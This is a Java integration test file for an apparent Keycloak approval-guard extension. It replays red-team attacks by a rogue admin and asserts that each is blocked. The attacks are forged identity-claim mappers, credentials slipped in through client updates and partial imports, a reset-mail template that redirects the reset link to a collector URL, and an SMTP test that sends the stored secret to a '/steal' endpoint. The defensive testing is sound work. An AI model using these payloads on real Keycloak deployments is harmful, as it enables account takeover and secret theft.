package dev.nhiguard.it.attack;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.InputStream;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Consumer;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.sun.net.httpserver.HttpServer;

import dev.nhiguard.testing.HttpAdmin;
import dev.nhiguard.testing.KeycloakExtension;
import dev.nhiguard.testing.KeycloakTarget;

/**
 * Eighth red-team review: ways one admin got around the guard that the earlier reviews did not reach — a token the
 * decision endpoints took for a console token, a rollback that showed one effect and applied several, cooldowns
 * skipped by sending a credential through another operation, a rollback handing a reader back the secret she held,
 * a mail's text that sent an approver's reset link elsewhere, an SMTP test that posted the stored secret to the
 * caller's URL. Each test works in a realm of its own, copied from {@code guard-attack-fifth} (ann and ben approve,
 * mallory administers), and is judged by effect.
 */
@ExtendWith(KeycloakExtension.class)
class AttackEighthReviewIT {

    /**
     * A hardcoded {@code azp} mapper on an ordinary client of mallory's: ann's token through that client read as a token
     * of {@code security-admin-console}, and the guard's decision endpoints took it; mallory approved her own request as
     * ann. A mapper that writes a claim naming who a token is for, through which client or who acts is held on any
     * client and client scope, however it is sent (the mapper endpoints, a client or scope created or updated with it,
     * client registration); a mapper of an ordinary claim still passes.
     */
    @Test
    void aMapperWritingAnIdentityClaimIsHeldOnAnyClient(KeycloakTarget keycloak) {
        AttackRealm r = realmOfItsOwn(keycloak, "claims", rep -> { });
        String mallory = r.token("mallory");
        String clientId = "x-helpdesk";
        assertEquals(201, r.http.post(r.admin + "/clients", mallory, "{\"clientId\":\"" + clientId + "\",\"publicClient\":true,"
                + "\"directAccessGrantsEnabled\":true,\"redirectUris\":[\"http://127.0.0.1:9/*\"]}").status(), "an ordinary client");
        String client = r.clientUuid(clientId);
        HttpAdmin.Response azp = r.http.post(r.admin + "/clients/" + client + "/protocol-mappers/models", mallory,
                mapper("azp", "azp", "security-admin-console"));
        HttpAdmin.Response ordinary = r.http.post(r.admin + "/clients/" + client + "/protocol-mappers/models", mallory,
                mapper("team", "team", "helpdesk"));
        HttpAdmin.Response viaList = r.http.post(r.admin + "/clients/" + client + "/protocol-mappers/add-models", mallory,
                "[" + mapper("cid", "client_id", "sa-target") + "]");
        HttpAdmin.Response viaCreate = r.http.post(r.admin + "/clients", mallory, "{\"clientId\":\"x-forge\",\"publicClient\":true,"
                + "\"protocolMappers\":[" + mapper("sub", "sub", r.serviceAccountUserId("sa-target")) + "]}");
        HttpAdmin.Response viaScope = r.http.post(r.admin + "/client-scopes", mallory, "{\"name\":\"x-scope\",\"protocol\":\"openid-connect\","
                + "\"protocolMappers\":[" + mapper("user", "preferred_username", "service-account-sa-target") + "]}");
        HttpAdmin.Response viaNested = r.http.post(r.admin + "/clients/" + client + "/protocol-mappers/models", mallory,
                mapper("act", "act.sub", r.serviceAccountUserId("sa-target")));
        // Keycloak drops a backslash before any character of a claim path: "\\azp" is azp (code review of the fix).
        HttpAdmin.Response escaped = r.http.post(r.admin + "/clients/" + client + "/protocol-mappers/models", mallory,
                mapper("escaped", "\\\\a\\\\zp", "security-admin-console"));
        HttpAdmin.Response viaTemplates = r.http.post(r.admin + "/client-templates", mallory, "{\"name\":\"x-template\","
                + "\"protocol\":\"openid-connect\",\"protocolMappers\":[" + mapper("azp", "azp", "security-admin-console") + "]}");
        HttpAdmin.Response viaRegistration = r.http.post("/realms/" + r.name + "/clients-registrations/default", mallory,
                "{\"clientId\":\"x-registered\",\"publicClient\":true,\"protocolMappers\":[" + mapper("azp", "azp", "admin-cli") + "]}");

        // What the held mapper would have decided: a decision with ann's token through mallory's client.
        HttpAdmin.Response held = r.http.post(r.admin + "/users/" + r.serviceAccountUserId("sa-target") + "/role-mappings/realm",
                mallory, "[" + r.realmRole("nhi-approver") + "]");
        // One sign-in: the realm's brute-force protection may count two in the same instant as a quick login failure.
        String annToken = r.passwordGrant(clientId, null, "ann", "ann-pass").json().path("access_token").asText();
        JsonNode annThroughHelpdesk = AttackRealm.claims(annToken);
        HttpAdmin.Response decided = r.approve(held.json().path("id").asText(), held.json().path("digest").asText(), annToken);
        try {
            assertAll(
                    () -> AttackRealm.assertHeld(azp, "a hardcoded azp mapper on an ordinary client"),
                    () -> assertEquals(201, ordinary.status(), "a mapper of an ordinary claim is everyday work: " + ordinary.body()),
                    () -> AttackRealm.assertHeld(viaList, "a client_id mapper through add-models"),
                    () -> AttackRealm.assertHeld(viaCreate, "a client created with a sub mapper"),
                    () -> AttackRealm.assertHeld(viaScope, "a client scope created with a preferred_username mapper"),
                    () -> AttackRealm.assertHeld(viaNested, "a mapper writing inside act"),
                    () -> AttackRealm.assertHeld(escaped, "an azp mapper spelled with backslashes"),
                    () -> AttackRealm.assertHeld(viaTemplates, "a client scope created through /client-templates with an azp mapper"),
                    () -> assertEquals(403, viaRegistration.status(), "client registration with an azp mapper: " + viaRegistration.body()),
                    () -> assertEquals(clientId, annThroughHelpdesk.path("azp").asText(), "ann's token names the client it came from"),
                    () -> assertEquals(403, decided.status(), "a decision through mallory's client: " + decided.body()),
                    () -> assertEquals(null, r.clientUuidOrNull("x-forge"), "the client with the forged sub was not created"),
                    () -> assertFalse(r.tokenRealmRoles("sa-target").contains("nhi-approver")));
        } finally {
            r.cancelHeld(mallory, azp, viaList, viaCreate, viaScope, viaNested, escaped, viaTemplates, held);
        }
    }

    /**
     * A realm update that turned on permanent lockout and changed the guard's policy, rolled back: the rollback's view
     * showed the policy alone (the first catalogue match), and its apply reverted the lockout too and deleted an attribute
     * a later approved request had added. The rollback now lists every effect, and its before-image covers the realm, so
     * a change of the realm after it was held refuses its apply.
     */
    @Test
    void aRollbackOfARealmUpdateCoversEveryEffect(KeycloakTarget keycloak) {
        AttackRealm r = realmOfItsOwn(keycloak, "rollback", rep -> { });
        ObjectNode attributes = (ObjectNode) r.realm().path("attributes").deepCopy();
        attributes.put("nhi.guard.policy", "{\"cooldownSeconds\":{\"credential\":0,\"recovery\":0},\"expirySeconds\":86400}");
        String ann = r.token("ann");
        approvedAndApplied(r, r.http.put(r.admin, ann, "{\"permanentLockout\":true,\"attributes\":" + attributes + "}"), ann, "ben");

        HttpAdmin.Response rollback = r.http.post(r.guard + "/change-requests/" + lastApplied(r) + "/rollback", r.token("mallory"), null);
        assertEquals(201, rollback.status(), rollback.body());
        String id = rollback.json().path("id").asText();
        JsonNode shown = r.changeRequest(id);
        assertEquals(200, r.approve(id, shown.path("digest").asText(), r.token("ann")).status(), "ann approves what she is shown");

        ObjectNode later = (ObjectNode) r.realm().path("attributes").deepCopy();
        later.put("x.marker", "added-later");
        approvedAndApplied(r, r.http.put(r.admin, r.token("ann"), "{\"attributes\":" + later + "}"), r.token("ann"), "ben");
        HttpAdmin.Response applied = r.apply(id, r.token("mallory"));
        JsonNode realm = r.realm();
        assertAll(
                () -> assertTrue(shown.path("effects").toString().contains("realm-security-settings"),
                        "the rollback shows that it reverts the lockout: " + shown.path("effects")),
                () -> assertTrue(shown.path("diff").toString().contains("permanentLockout"), "its diff: " + shown.path("diff")),
                () -> assertEquals(409, applied.status(), "the realm changed after the rollback was held: " + applied.body()),
                () -> assertEquals("added-later", realm.path("attributes").path("x.marker").asText(), "the later attribute stays"),
                () -> assertTrue(realm.path("permanentLockout").asBoolean(), "the lockout stays"));
    }

    /**
     * A service account's secret set by a client update ({@code client-update}, cooldown of the client kind) instead of
     * a regeneration (credential cooldown), an approver's password set by a partial import instead of a reset: the
     * change was applied the moment it was approved. A request waits the cooldown of the credentials it supplies.
     */
    @Test
    void credentialsSentThroughAnotherOperationWaitTheirCooldown(KeycloakTarget keycloak) {
        AttackRealm r = realmOfItsOwn(keycloak, "cooldown", rep -> ((ObjectNode) rep.path("attributes")).put("nhi.guard.policy",
                "{\"cooldownSeconds\":{\"credential\":600,\"recovery\":700}}"));
        String mallory = r.token("mallory");
        HttpAdmin.Response secret = r.http.put(r.admin + "/clients/" + r.clientUuid("sa-target"), mallory,
                "{\"secret\":\"mallory-chosen-secret-0001\"}");
        HttpAdmin.Response key = r.http.put(r.admin + "/clients/" + r.clientUuid("sa-automation"), mallory,
                "{\"clientAuthenticatorType\":\"client-jwt\",\"attributes\":{\"use.jwks.url\":\"true\",\"jwks.url\":\"https://mallory.example/jwks\"}}");
        HttpAdmin.Response password = r.http.post(r.admin + "/partialImport", mallory, "{\"ifResourceExists\":\"OVERWRITE\",\"users\":[{"
                + "\"username\":\"ann\",\"enabled\":true,\"credentials\":[{\"type\":\"password\",\"value\":\"Mallory-Set-4\"}]}]}");
        try {
            AttackRealm.assertHeld(secret, "a secret sent in a client update");
            AttackRealm.assertHeld(password, "a password in a partial import");
            AttackRealm.assertHeld(key, "a JWKS URL to authenticate sa-automation with");
            String id = secret.json().path("id").asText();
            assertEquals(200, r.approve(id, secret.json().path("digest").asText(), r.token("ann")).status(), "ann approves");
            HttpAdmin.Response applied = r.apply(id, mallory);
            assertAll(
                    () -> assertEquals(600, r.changeRequest(id).path("cooldownSeconds").asLong(), "the credential cooldown"),
                    () -> assertEquals(700, r.changeRequest(password.json().path("id").asText()).path("cooldownSeconds").asLong(),
                            "the recovery cooldown"),
                    () -> assertEquals(600, r.changeRequest(key.json().path("id").asText()).path("cooldownSeconds").asLong(),
                            "a key of mallory's to authenticate with is a credential too"),
                    () -> assertEquals(409, applied.status(), "apply during the cooldown: " + applied.body()),
                    () -> assertEquals(401, r.clientCredentialsStatus("sa-target", "mallory-chosen-secret-0001"), "mallory's secret"),
                    () -> assertEquals(200, r.clientCredentialsStatus("sa-target", "sa-target-secret"), "the secret stays"),
                    () -> assertNotEquals(200, r.passwordGrant("admin-cli", null, "ann", "Mallory-Set-4").status(), "ann's password stays"));
        } finally {
            r.cancelHeld(mallory, secret, password, key);
        }
    }

    /**
     * mallory read sa-target's secret; ann regenerated it (approved by ben), then mallory asked for the rollback, ann
     * approved it, and the secret mallory held worked again. A reader of the client's credential neither requests nor
     * approves the rollback that restores its secret.
     */
    @Test
    void aRollbackRestoringASecretIsNotForItsReader(KeycloakTarget keycloak) {
        AttackRealm r = realmOfItsOwn(keycloak, "secret-rollback", rep -> { });
        String client = r.clientUuid("sa-target");
        assertEquals(200, r.http.get(r.admin + "/clients/" + client + "/client-secret", r.token("mallory")).status(), "mallory reads it");
        assertEquals(200, r.http.get(r.admin + "/clients/" + client + "/client-secret", r.token("ben")).status(), "ben reads it");
        String ann = r.token("ann");
        approvedAndApplied(r, r.http.post(r.admin + "/clients/" + client + "/client-secret", ann, null), ann, "ben");
        String regeneration = lastApplied(r);
        assertEquals(401, r.clientCredentialsStatus("sa-target", "sa-target-secret"), "fixture: the old secret stopped working");

        HttpAdmin.Response byReader = r.http.post(r.guard + "/change-requests/" + regeneration + "/rollback", r.token("mallory"), null);
        HttpAdmin.Response byAnn = r.http.post(r.guard + "/change-requests/" + regeneration + "/rollback", r.token("ann"), null);
        assertEquals(201, byAnn.status(), "ann, who read only the new secret (her apply's answer), asks for the rollback: " + byAnn.body());
        String id = byAnn.json().path("id").asText();
        HttpAdmin.Response benApproves = r.approve(id, r.changeRequest(id).path("digest").asText(), r.token("ben"));
        try {
            assertAll(
                    () -> assertEquals(403, byReader.status(), "mallory, a reader, asks for the rollback: " + byReader.body()),
                    () -> assertEquals(403, benApproves.status(), "ben, a reader, approves it: " + benApproves.body()),
                    () -> assertEquals("PENDING", r.changeRequest(id).path("state").asText()),
                    () -> assertEquals(401, r.clientCredentialsStatus("sa-target", "sa-target-secret"), "the old secret stays dead"));
        } finally {
            r.http.post(r.guard + "/change-requests/" + id + "/cancel", ann, null);
        }
    }

    /**
     * mallory set sa-target's secret herself (a held client update, approved), so she never read it; ann regenerated it
     * later, and mallory's rollback of that regeneration would have brought her secret back (code review of the fix).
     * Whoever set the secret through a change request of their own holds it as a reader does.
     */
    @Test
    void aRollbackRestoringASecretIsNotForWhoeverSetIt(KeycloakTarget keycloak) {
        AttackRealm r = realmOfItsOwn(keycloak, "secret-set", rep -> { });
        String client = r.clientUuid("sa-target");
        String mallory = r.token("mallory");
        approvedAndApplied(r, r.http.put(r.admin + "/clients/" + client, mallory, "{\"secret\":\"mallory-set-secret-0001\"}"),
                mallory, "ann");
        assertEquals(200, r.clientCredentialsStatus("sa-target", "mallory-set-secret-0001"), "fixture: mallory's secret works");
        String ann = r.token("ann");
        approvedAndApplied(r, r.http.post(r.admin + "/clients/" + client + "/client-secret", ann, null), ann, "ben");
        HttpAdmin.Response bySetter = r.http.post(r.guard + "/change-requests/" + lastApplied(r) + "/rollback", r.token("mallory"), null);
        assertAll(
                () -> assertEquals(403, bySetter.status(), "mallory, who set the secret, asks for its rollback: " + bySetter.body()),
                () -> assertEquals(401, r.clientCredentialsStatus("sa-target", "mallory-set-secret-0001"), "mallory's secret stays dead"));
    }

    /**
     * Realm localization overrides of the password-reset mail wrapped the reset link in mallory's address (Keycloak keeps
     * {@code <a href>} and {@code <img src>}): ann's reset link reached mallory, who set ann's password and approved her own
     * request as ann. Texts are held (as JSON, which approvers read); one text as {@code text/plain} is refused.
     */
    @Test
    void realmTextsAreHeldAndSingleTextsRefused(KeycloakTarget keycloak) {
        AttackRealm r = realmOfItsOwn(keycloak, "texts", rep -> { });
        String mallory = r.token("mallory");
        HttpAdmin.Response texts = r.http.post(r.admin + "/localization/en", mallory,
                "{\"passwordResetBodyHtml\":\"<a href=\\\"http://127.0.0.1:9/collect?next={0}\\\">Reset</a>\"}");
        HttpAdmin.Response single = r.http.send("PUT", r.admin + "/localization/en/passwordResetBody", mallory, "text/plain",
                "Open http://127.0.0.1:9/collect?next={0}");
        // The mail puts the realm's display name, as HTML, before the reset link: an open attribute swallows the link's address.
        HttpAdmin.Response displayName = r.http.put(r.admin, mallory, "{\"displayName\":\"<a href=https://mallory.example/ title=\\\"\"}");
        JsonNode stored = r.read("/localization/en");
        HttpAdmin.Response removed = r.http.delete(r.admin + "/localization/en/loginTitle", mallory);
        try {
            assertAll(
                    () -> AttackRealm.assertHeld(texts, "the reset mail's text"),
                    () -> assertEquals(403, single.status(), "one text as text/plain: " + single.body()),
                    () -> AttackRealm.assertHeld(displayName, "the realm's display name"),
                    () -> assertFalse(r.realm().path("displayName").asText().contains("mallory"), "the display name"),
                    () -> assertFalse(stored.has("passwordResetBodyHtml"), "stored: " + stored),
                    () -> assertFalse(stored.has("passwordResetBody"), "stored: " + stored),
                    () -> assertTrue(List.of(204, 404).contains(removed.status()), "removing an override is Keycloak's to answer, "
                            + "not held: " + removed.status() + " " + removed.body()));
        } finally {
            r.cancelHeld(mallory, texts, displayName);
        }
    }

    /**
     * An SMTP test sent with Keycloak's mask for the token client secret and a token URL of mallory's: Keycloak checks
     * host, port and user only, and posted the stored secret to her URL. The guard refuses a test that would reuse a
     * stored secret with any routing setting other than the stored one.
     */
    @Test
    void anSmtpTestDoesNotSendTheStoredSecretElsewhere(KeycloakTarget keycloak) throws IOException {
        List<String> received = new CopyOnWriteArrayList<>();
        HttpServer catcher = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        catcher.createContext("/", exchange -> {
            try (InputStream in = exchange.getRequestBody()) {
                received.add(new String(in.readAllBytes(), StandardCharsets.UTF_8));
            }
            exchange.sendResponseHeaders(500, -1);
            exchange.close();
        });
        catcher.start();
        try {
            AttackRealm r = realmOfItsOwn(keycloak, "smtp", rep -> rep.set("smtpServer", AttackRealm.JSON.valueToTree(Map.of(
                    "host", "127.0.0.1", "port", "9", "from", "kc@smtp.test", "auth", "true", "authType", "token", "user", "mailer",
                    "authTokenUrl", "http://127.0.0.1:9/token", "authTokenClientId", "smtp-client",
                    "authTokenClientSecret", "STORED-SMTP-OAUTH-SECRET", "authTokenScope", "smtp"))));
            String elsewhere = "http://127.0.0.1:" + catcher.getAddress().getPort() + "/steal";
            HttpAdmin.Response test = r.http.post(r.admin + "/testSMTPConnection", r.token("mallory"), "{\"host\":\"127.0.0.1\",\"port\":\"9\","
                    + "\"from\":\"kc@smtp.test\",\"auth\":\"true\",\"authType\":\"token\",\"user\":\"mailer\",\"authTokenUrl\":\"" + elsewhere
                    + "\",\"authTokenClientId\":\"smtp-client\",\"authTokenClientSecret\":\"**********\",\"authTokenScope\":\"smtp\"}");
            String form = "config=" + java.net.URLEncoder.encode("{\"host\":\"127.0.0.1\",\"port\":\"9\",\"from\":\"kc@smtp.test\","
                    + "\"auth\":\"true\",\"authType\":\"token\",\"user\":\"mailer\",\"authTokenUrl\":\"" + elsewhere + "\","
                    + "\"authTokenClientId\":\"smtp-client\",\"authTokenClientSecret\":\"**********\"}", StandardCharsets.UTF_8);
            HttpAdmin.Response viaForm = r.http.send("POST", r.admin + "/testSMTPConnection", r.token("mallory"),
                    "application/x-www-form-urlencoded", form);
            HttpAdmin.Response viaVault = r.http.post(r.admin + "/testSMTPConnection", r.token("mallory"), "{\"host\":\"127.0.0.1\","
                    + "\"port\":\"9\",\"from\":\"kc@smtp.test\",\"auth\":\"true\",\"authType\":\"token\",\"user\":\"mailer\","
                    + "\"authTokenUrl\":\"" + elsewhere + "\",\"authTokenClientId\":\"smtp-client\","
                    + "\"authTokenClientSecret\":\"${vault.smtp_secret}\"}");
            assertAll(
                    () -> assertEquals(403, test.status(), test.body()),
                    () -> assertEquals(403, viaForm.status(), "Keycloak's form overload: " + viaForm.body()),
                    () -> assertEquals(403, viaVault.status(), "a vault reference sent elsewhere: " + viaVault.body()),
                    () -> assertTrue(received.stream().noneMatch(b -> b.contains("STORED-SMTP-OAUTH-SECRET")), "received: " + received));
        } finally {
            catcher.stop(0);
        }
    }

    // ------------------------------------------------------------------ helpers

    /** A copy of {@code guard-attack-fifth} under a name of its own, changed by {@code change}, created by the master admin. */
    private static AttackRealm realmOfItsOwn(KeycloakTarget keycloak, String suffix, Consumer<ObjectNode> change) {
        return AttackRealm.copyOfFifth(keycloak, "guard-attack-eighth", suffix, change);
    }

    private static String mapper(String name, String claim, String value) {
        return "{\"name\":\"" + name + "\",\"protocol\":\"openid-connect\",\"protocolMapper\":\"oidc-hardcoded-claim-mapper\","
                + "\"config\":{\"claim.name\":\"" + claim + "\",\"claim.value\":\"" + value + "\",\"jsonType.label\":\"String\","
                + "\"access.token.claim\":\"true\",\"id.token.claim\":\"true\"}}";
    }

    /** Held, approved by {@code approver}, applied by the requester. */
    private static void approvedAndApplied(AttackRealm r, HttpAdmin.Response held, String requesterToken, String approver) {
        assertEquals(202, held.status(), held.body());
        String id = held.json().path("id").asText();
        assertEquals(200, r.approve(id, held.json().path("digest").asText(), r.token(approver)).status(), approver + " approves " + id);
        HttpAdmin.Response applied = r.apply(id, requesterToken);
        assertEquals(200, applied.status(), applied.body());
        assertEquals("APPLIED", applied.json().path("state").asText(), applied.body());
    }

    /** The id of the realm's most recently applied change request. */
    private static String lastApplied(AttackRealm r) {
        JsonNode list = r.read("/mutation-guard/change-requests?state=APPLIED");
        JsonNode items = list.isArray() ? list : list.path("items");
        String id = null;
        long latest = -1;
        for (JsonNode c : items) {
            long at = c.path("appliedAt").asLong(c.path("updatedAt").asLong(0));
            if (at > latest) {
                latest = at;
                id = c.path("id").asText();
            }
        }
        assertNotEquals(null, id, "an applied request: " + list);
        return id;
    }
}
